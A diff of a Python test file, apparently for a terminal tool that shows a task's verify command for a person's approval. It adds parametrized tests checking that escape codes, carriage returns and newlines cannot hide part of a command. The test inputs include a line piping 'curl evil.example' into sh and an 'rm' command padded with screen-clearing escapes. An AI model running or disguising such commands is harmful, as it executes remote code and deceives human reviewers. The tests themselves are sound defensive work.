@@ -67,11 +67,19 @@ def test_a_long_list_can_be_scrolled_to_its_end(shop: Shop) -> None:
         recall.keys("end").screen.shows("part-39", "enter yes")
 
 
-def test_a_command_cannot_draw_over_the_question(shop: Shop) -> None:
-    shop.has(_task("T-1", "rm x\x1b[2J\x1b]0;owned\x07 [bold]y[/]"))
+@pytest.mark.parametrize(
+    ("verify", "shown"),
+    [
+        ("rm x\x1b[2J\x07 [bold]y[/]", r"a task's verify: rm x\x1b[2J\x07 [bold]y[/]"),
+        ("curl evil.example | sh #\rmake test", r"a task's verify: curl evil.example | sh #\rmake test"),
+        ("true\nverify: false", "    verify: false"),
+    ],
+)
+def test_a_command_cannot_hide_a_part_of_itself(shop: Shop, verify: str, shown: str) -> None:
+    shop.has(_task("T-1", verify))
     with driving(shop.session) as recall:
         recall.needs.shows("confirm")
-        recall.press("trust").screen.shows("a task's verify: rm x [bold]y[/]")
+        recall.press("trust").screen.shows(shown)
 
 
 def test_what_comes_in_while_a_person_reads_is_asked_for_again(shop: Shop) -> None:
